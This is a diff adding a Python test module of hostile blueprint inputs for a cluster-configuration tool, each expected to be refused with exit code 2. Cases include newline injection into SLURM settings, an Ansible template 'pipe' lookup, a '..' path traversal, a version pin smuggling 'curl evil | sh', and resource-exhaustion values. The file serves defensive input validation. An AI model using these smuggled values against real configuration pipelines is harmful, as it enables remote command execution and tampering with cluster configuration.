@@ -1,0 +1,85 @@
+"""What the model accepts: strings that reach SLURM, Lustre, Ansible and AWS files, site catalogs, finite
+numbers, one-line echoes and bounded expansion. Each case is refused by every command with exit 2."""
+
+from __future__ import annotations
+
+from tests.hostile.cases_basic import VALID
+from tests.hostile.harness import Case
+
+REFUSED = {"*": frozenset({2})}
+
+ONPREM_LUSTRE = VALID + "storage:\n  lustre: {mount: /lustre, mgs_nid: 10.0.0.10@o2ib, fsname: scratch}\n"
+
+SITE_CATALOG = """\
+hardware:
+  site-gpu:
+    kind: server
+    description: a site server
+    max_power_kw: 10.2
+    u_height: 8
+    weight_kg: 130
+    depth_mm: 897
+    psus: {count: 6, required: 4}
+    max_inlet_c: 35
+    gpus: {model: H100-SXM5, count: 8, memory_gib: 80}
+    sources: {max_power_kw: s, u_height: s, weight_kg: s, depth_mm: s, psus: s, max_inlet_c: s, gpus: s}
+"""
+SITE_BLUEPRINT = VALID.replace("hardware: dgx-h100", "hardware: site-gpu")
+
+
+def _with_catalog(name: str, problem: str, catalog: str, says: str) -> Case:
+    """A blueprint that uses a site catalog, run through validate, check, plan and render with --catalog."""
+    return Case(name, problem, {"cluster.yaml": SITE_BLUEPRINT, "site.yaml": catalog},
+                argv=[[command, "{tree}/cluster.yaml", "--catalog", "{tree}/site.yaml", *extra]
+                      for command, extra in (("validate", []), ("check", []), ("plan", []),
+                                             ("render", ["-o", "{out}/render"]))],
+                exits={"*": frozenset({2})}, says={f"{c}#{i}": says for i, c in enumerate(
+                    ("validate", "check", "plan", "render"))})
+
+
+CASES = [
+    Case("model-max-time-newline", "a newline in max_time adds SlurmctldHost= to slurm.conf",
+         {"cluster.yaml": VALID.replace("default: true}",
+                                        'default: true, max_time: "1-00:00:00\\nSlurmctldHost=evil"}')},
+         exits=REFUSED, says={"validate": "is not a SLURM time limit"}),
+    Case("model-mgs-nid-newline", "a newline in the MGS NID adds keys to group_vars",
+         {"cluster.yaml": ONPREM_LUSTRE.replace("mgs_nid: 10.0.0.10@o2ib",
+                                                'mgs_nid: "10.0.0.10@o2ib\\nlustre_client_fsname: evil"')},
+         exits=REFUSED, says={"validate": "is not an LNet NID"}),
+    Case("model-mount-options-template", "Ansible template syntax and a newline in Lustre mount options",
+         {"cluster.yaml": ONPREM_LUSTRE.replace(
+             "fsname: scratch}", "fsname: scratch, mount_options: \"defaults,{{ lookup('pipe', 'id') }}\"}")},
+         exits=REFUSED, says={"validate": "is not mount options"}),
+    Case("model-mount-path-dotdot", "a Lustre mount point that climbs out with '..'",
+         {"cluster.yaml": ONPREM_LUSTRE.replace("mount: /lustre", "mount: /lustre/../etc")},
+         exits=REFUSED, says={"validate": "is not an absolute path"}),
+    Case("model-version-pin-shell", "a software pin with shell syntax",
+         {"cluster.yaml": VALID + 'software: {nccl: "2.26.2; curl evil | sh"}\n'},
+         exits=REFUSED, says={"validate": "is not a version"}),
+    Case("model-gres-newline", "a newline in a pool's gres adds a PrologSlurmctld= line",
+         {"cluster.yaml": VALID.replace("partition: train}",
+                                        'partition: train, gres: "gpu:8\\nPrologSlurmctld=/tmp/x"}')},
+         exits=REFUSED, says={"validate": "is not SLURM GRES"}),
+    Case("model-non-finite-number", "a .nan inlet limit would pass every comparison",
+         {"cluster.yaml": VALID + "site:\n  name: dc\n  max_inlet_c: .nan\n  rows: []\n"},
+         exits=REFUSED, says={"validate": "expected a finite number"}),
+    Case("model-wrong-type-secret", "a wrong-typed value holding a key is not echoed whole",
+         {"cluster.yaml": VALID + 'site: "-----BEGIN OPENSSH PRIVATE KEY-----\\n' + "A" * 4000 + '"\n'},
+         exits=REFUSED, says={"validate": "expected a mapping, got a text of 4,036 characters on 2 lines"}),
+    Case("model-racks-multiply", "r[0-999] rows × {row}-k[0-999] racks is a million racks from two lines",
+         {"cluster.yaml": VALID + 'site:\n  name: dc\n  rows:\n    - name: r[0-999]\n'
+                                  '      racks: [{name: "{row}-k[0-999]"}]\n'},
+         exits=REFUSED, says={"validate": "CLUSTERFORGE_MAX_RACKS"}),
+    Case("model-nodes-ten-million", "count: 10000000 on a pool would make render write hundreds of MB",
+         {"cluster.yaml": VALID.replace("count: 2,", "count: 10000000,")},
+         exits=REFUSED, says={"validate": "CLUSTERFORGE_MAX_NODES"}),
+    Case("model-pools-many", "5,000 tiny pools (the limit is checked before the model validates them)",
+         {"cluster.yaml": "apiVersion: clusterforge/v1\nkind: Cluster\nname: tiny\ntarget: onprem\npools:\n"
+          + "".join(f"  - {{name: p{i}, hardware: dgx-h100, count: 1}}\n" for i in range(5_000))},
+         exits=REFUSED, says={"validate": "CLUSTERFORGE_MAX_POOLS"}),
+    _with_catalog("model-catalog-gpu-model-newline", "a site catalog's GPU model with a newline reaches gres.conf",
+                  SITE_CATALOG.replace("model: H100-SXM5", 'model: "H100\\nPrologSlurmctld=/tmp/x"'),
+                  "is not a GPU model"),
+    _with_catalog("model-catalog-nan-inlet", "a NaN inlet limit in a site catalog silently disables CLG-005",
+                  SITE_CATALOG.replace("max_inlet_c: 35", "max_inlet_c: .nan"), "expected a finite number"),
+]
